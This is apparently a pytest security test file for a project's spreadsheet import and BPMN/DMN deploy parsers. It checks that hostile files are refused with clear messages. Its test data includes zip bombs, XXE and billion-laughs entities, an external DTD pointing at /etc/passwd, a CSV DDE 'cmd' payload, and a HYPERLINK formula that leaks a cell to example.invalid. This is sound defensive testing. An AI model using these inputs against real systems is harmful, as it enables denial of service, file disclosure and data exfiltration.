"""Hostile files outside packs: spreadsheets for import, and BPMN/DMN sent to deploy.

Each refusal says what and where: the cell, row, part of the workbook, or the JSON pointer
(/bpmn, /dmn/0) and line. Covered elsewhere and not repeated: a formula at C2 and a fake .xlsx
(tests/web/test_imports.py), DOCTYPE in BPMN/DMN and a malformed line (tests/workflow/
test_escape.py).
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from openpyxl import Workbook

from formwork.auth.scopes import SCOPES
from formwork.auth.users import create_token
from formwork.runtime.errors import ValidationFailed
from formwork.runtime.imports.limits import SheetLimits, SheetRefused
from formwork.runtime.imports.sheets import read_sheet
from formwork.runtime.models import User
from formwork.runtime.workflow.deploy import MAX_SOURCE, parse_process
from tests.security.test_hostile_packs import LAUGHS, XXE
from tests.web.conftest import _catalogs, _cheap_password_hashes, admin, web  # noqa: F401
from tests.workflow.conftest import source as bpmn_source

PASSWD_MARK = "root:x:0:0"
MAX_COLUMNS = SheetLimits().columns


def xlsx(rows: list[list[Any]]) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def rewrite(data: bytes, changes: dict[str, bytes | None]) -> bytes:
    """Return the zip with members replaced (None: removed) or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            if info.filename not in changes:
                target.writestr(info, source.read(info))
        for name, content in changes.items():
            if content is not None:
                target.writestr(name, content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


@pytest.fixture
def read() -> Iterator[Any]:
    """Return read(content, suffix) -> Sheet (the kernel's reader; refusals read in English)."""

    def run(content: bytes, suffix: str = ".xlsx", max_rows: int = 10_000) -> Any:
        return read_sheet(content, suffix, SheetLimits(rows=max_rows))

    yield run


def refused(call: Any) -> str:
    with pytest.raises(SheetRefused) as caught:
        call()
    message = str(caught.value)
    assert PASSWD_MARK not in message
    return message


# --- Excel ------------------------------------------------------------------------------------


def test_a_good_workbook_still_reads(read):
    sheet = read(xlsx([["code", "name"], ["P-1", "x"]]))
    assert sheet.header == ["code", "name"] and sheet.data == [(2, ["P-1", "x"])]


def test_an_xlsx_zip_bomb_is_refused_naming_the_part(read):
    bomb = rewrite(xlsx([["code"], ["P-1"]]), {"xl/media/big.bin": b"\0" * (120 * 1024 * 1024)})
    assert len(bomb) < 1024 * 1024
    message = refused(lambda: read(bomb))
    assert "xl/media/big.bin" in message and "100 MB" in message


def test_an_xlsx_with_a_part_lying_about_its_size_is_refused(read):
    data = bytearray(xlsx([["code"], ["P-1"]]))
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        name_length = int.from_bytes(data[at + 28 : at + 30], "little")
        if data[at + 46 : at + 46 + name_length] == b"xl/worksheets/sheet1.xml":
            data[at + 24 : at + 28] = (10).to_bytes(4, "little")  # declared size: 10 bytes
        at += 4
    assert "cannot be read" in refused(lambda: read(bytes(data)))


def test_an_xlsx_with_thousands_of_parts_is_refused(read):
    many = {f"xl/media/{i}.bin": b"" for i in range(1500)}
    assert "more than 1000 parts" in refused(lambda: read(rewrite(xlsx([["a"]]), many)))


def with_shared_strings(header: str, body: str) -> bytes:
    """Return a workbook whose cell A2 is shared string 0, the string table being hostile."""
    data = xlsx([["code"], ["P-1"]])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        types = archive.read("[Content_Types].xml").decode()
        rels = archive.read("xl/_rels/workbook.xml.rels").decode()
    sheet = sheet.replace(
        '<c r="A2" t="inlineStr"><is><t>P-1</t></is></c>', '<c r="A2" t="s"><v>0</v></c>'
    )
    types = types.replace(
        "</Types>",
        '<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    rels = rels.replace(
        "</Relationships>",
        '<Relationship Id="rIdS" Target="sharedStrings.xml" Type="http://schemas.openxml'
        'formats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>',
    )
    strings = (
        header + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        f'count="1" uniqueCount="1"><si><t>{body}</t></si></sst>'
    )
    return rewrite(
        data,
        {
            "xl/worksheets/sheet1.xml": sheet.encode(),
            "[Content_Types].xml": types.encode(),
            "xl/_rels/workbook.xml.rels": rels.encode(),
            "xl/sharedStrings.xml": strings.encode(),
        },
    )


def test_a_shared_strings_workbook_reads(read):
    assert read(with_shared_strings('<?xml version="1.0"?>', "P-9")).data == [(2, ["P-9"])]


@pytest.mark.parametrize(
    ("header", "body"), [(XXE, "&e;"), (LAUGHS, "&lol9;")], ids=["xxe", "billion-laughs"]
)
def test_entities_in_shared_strings_are_refused_naming_the_part(read, header, body):
    message = refused(lambda: read(with_shared_strings(header, body)))
    assert "xl/sharedStrings.xml declares a DOCTYPE" in message, message


def test_a_utf16_doctype_in_a_part_is_found_too(read):
    hostile = with_shared_strings(
        '<?xml version="1.0" encoding="UTF-16"?>' + XXE.split("?>")[1], "&e;"
    )
    with zipfile.ZipFile(io.BytesIO(hostile)) as archive:
        strings = archive.read("xl/sharedStrings.xml").decode()
    hostile = rewrite(hostile, {"xl/sharedStrings.xml": strings.encode("utf-16")})
    assert "xl/sharedStrings.xml declares a DOCTYPE" in refused(lambda: read(hostile))


def test_an_external_entity_in_the_workbook_part_is_refused(read):
    data = xlsx([["code"], ["P-1"]])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        workbook = archive.read("xl/workbook.xml").decode()
    workbook = workbook.replace("<?xml version='1.0' encoding='UTF-8' standalone='yes'?>", "")
    workbook = workbook.replace('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>', "")
    hostile = rewrite(
        data, {"xl/workbook.xml": (XXE + workbook.replace('name="Sheet"', 'name="&e;"')).encode()}
    )
    assert "xl/workbook.xml declares a DOCTYPE" in refused(lambda: read(hostile))


def test_a_zip_that_is_not_a_workbook_is_refused(read):
    other = io.BytesIO()
    with zipfile.ZipFile(other, "w") as archive:
        archive.writestr("word/document.xml", "<w/>")
    assert "cannot be read" in refused(lambda: read(other.getvalue()))
    assert "cannot be read" in refused(lambda: read(b"PK\x03\x04" + b"\0" * 100))


def test_a_formula_anywhere_is_refused_naming_the_cell(read):
    book = Workbook()
    sheet = book.active
    sheet.append(["code", "name"])
    sheet.append(["P-1", "x"])
    sheet["B3"] = '=HYPERLINK("http://example.invalid/?"&A2, "click")'
    out = io.BytesIO()
    book.save(out)
    assert "Cell B3 holds a formula" in refused(lambda: read(out.getvalue()))


def test_a_sheet_wider_than_the_limit_is_refused_with_its_range(read):
    book = Workbook()
    book.active["A1"] = "code"
    book.active["XFD1"] = "far"
    out = io.BytesIO()
    book.save(out)
    message = refused(lambda: read(out.getvalue()))
    assert "16384 columns" in message and "XFD1" in message and str(MAX_COLUMNS) in message


def test_a_million_empty_rows_are_refused_quickly(read):
    book = Workbook()
    book.active["A1"] = "code"
    book.active["A1048576"] = "last"
    out = io.BytesIO()
    book.save(out)
    message = refused(lambda: read(out.getvalue(), max_rows=1000))
    assert "1,048,576 rows" in message and "A1048576" in message


# --- CSV --------------------------------------------------------------------------------------


def test_a_csv_with_a_100_mb_line_is_refused_naming_the_line(read):
    content = b"code,name\nP-1,x\n" + b"y" * (100 * 1024 * 1024) + b"\n"
    message = refused(lambda: read(content, ".csv"))
    assert "line 3" in message and "field larger than field limit" in message


def test_a_csv_row_with_too_many_columns_is_refused(read):
    content = b"code,name\n" + b"x," * 5000 + b"x\n"
    assert f"Row 2 has more than {MAX_COLUMNS} columns" in refused(lambda: read(content, ".csv"))


def test_formula_text_in_a_csv_is_only_text(read):
    sheet = read(b"code,name\nP-1,\"=cmd|' /C calc'!A0\"\n", ".csv")
    assert sheet.data == [(2, ["P-1", "=cmd|' /C calc'!A0"])]


def test_a_binary_file_named_csv_is_refused(read):
    message = refused(lambda: read(b"code,name\nP-1,x\nP-2,\x00\x01\x02\n", ".csv"))
    assert "NUL byte at line 3" in message


def test_the_upload_page_shows_the_refusal(web, admin):  # noqa: F811
    bomb = rewrite(xlsx([["项目编号"], ["P-1"]]), {"xl/media/big.bin": b"\0" * (120 * 1024 * 1024)})
    admin.get("/app/sample/project/import")
    response = admin.post(
        "/app/sample/project/import",
        {"file": (io.BytesIO(bomb), "bomb.xlsx")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    assert "xl/media/big.bin" in response.get_data(as_text=True)
    assert not list((Path(web.config["INSTANCE_PATH"]) / "imports").glob("*"))


# --- BPMN and DMN sent to deploy --------------------------------------------------------------


def _problems(call: Any) -> dict[str, str]:
    with pytest.raises(ValidationFailed) as caught:
        call()
    found = {e.pointer: e.message("en") for e in caught.value.errors}
    assert PASSWD_MARK not in str(found)
    return found


def test_a_utf16_doctype_is_refused_although_the_bytes_hide_it():
    text = bpmn_source("ccb_change.bpmn").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
    text = text.replace("<bpmn:definitions", XXE.split("?>")[1] + "<bpmn:definitions", 1)
    found = _problems(lambda: parse_process(text.encode("utf-16")))
    assert "DOCTYPE" in found["/bpmn"]


def test_billion_laughs_in_dmn_is_refused_at_its_pointer():
    dmn = bpmn_source("routing.dmn").replace('<?xml version="1.0" encoding="UTF-8"?>', LAUGHS, 1)
    found = _problems(lambda: parse_process(bpmn_source("ccb_change.bpmn"), [dmn]))
    assert "DOCTYPE" in found["/dmn/0"]


def test_deeply_nested_xml_is_refused_with_its_line():
    deep = '<?xml version="1.0"?>\n<a>' + "<b>" * 10_000 + "</b>" * 10_000 + "</a>"
    found = _problems(lambda: parse_process(deep))
    assert "line" in found["/bpmn"] and "depth" in found["/bpmn"].lower()


def test_an_oversized_document_is_refused():
    big = bpmn_source("ccb_change.bpmn").replace(
        "</bpmn:definitions>", " " * MAX_SOURCE + "</bpmn:definitions>"
    )
    assert "larger than" in _problems(lambda: parse_process(big))["/bpmn"]


def test_an_external_dtd_is_not_fetched_and_is_refused():
    text = bpmn_source("ccb_change.bpmn").replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0"?><!DOCTYPE d SYSTEM "file:///etc/passwd">',
        1,
    )
    assert "DOCTYPE" in _problems(lambda: parse_process(text))["/bpmn"]


def test_odd_but_well_formed_xml_is_a_clear_error_not_a_crash():
    stray = '<?xml version="1.0"?><definitions xmlns="urn:x"><process id="p"/></definitions>'
    message = _problems(lambda: parse_process(stray))["/bpmn"]
    assert "line 1" in message and "definitions" in message


def test_deploy_over_the_api_answers_problem_json_with_the_pointer(api, session, users):
    user = session.get(User, users["admin"]["id"])
    api.token = create_token(session, user, "deploy", scopes=SCOPES)
    session.commit()
    dmn = bpmn_source("routing.dmn").replace('<?xml version="1.0" encoding="UTF-8"?>', XXE, 1)
    response = api.post(
        "/api/v1/process-definitions", {"bpmn": bpmn_source("ccb_change.bpmn"), "dmn": [dmn]}
    )
    assert response.status_code == 422 and response.mimetype == "application/problem+json"
    [error] = response.get_json()["errors"]
    assert error["pointer"] == "/dmn/0" and "DOCTYPE" in error["detail"]


def test_processing_instructions_are_inert():
    # A stylesheet PI is never followed (the path does not exist; following it would fail), and
    # the process parses as it would without it: PIs carry no behaviour, so they are accepted.
    text = bpmn_source("ccb_change.bpmn").replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<?xml-stylesheet type="text/xsl" href="file:///nonexistent/formwork/x.xsl"?>',
        1,
    )
    parsed = parse_process(text, [bpmn_source("routing.dmn")])
    assert (
        parsed.key
        == parse_process(bpmn_source("ccb_change.bpmn"), [bpmn_source("routing.dmn")]).key
    )
